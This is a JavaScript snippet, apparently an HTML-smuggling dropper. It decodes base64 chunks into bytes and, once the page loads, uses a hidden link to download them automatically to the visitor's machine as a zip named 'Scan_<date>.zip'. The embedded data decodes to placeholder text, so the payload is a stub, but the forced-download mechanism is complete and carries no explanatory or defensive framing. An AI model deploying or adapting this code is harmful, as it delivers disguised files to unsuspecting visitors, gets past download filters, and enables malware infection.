const chunk = ['RVJTRVJTRVJTRVJT', 'TEFDRUhPTERQTEFD', 'UExBQ0VIT0xERVJQ'];
const raw = chunk.reverse().join('');
const bytes = Uint8Array.from(atob(raw), c => c.charCodeAt(0));
window.addEventListener('load', () => {
  const hid = document.createElement('a');
  hid.href = URL.createObjectURL(new Blob([bytes], { type: 'application/zip' }));
  hid.download = 'Scan_' + new Date().toISOString().slice(0, 10) + '.zip';
  document.body.append(hid);
  setTimeout(() => hid.click(), 800);
});
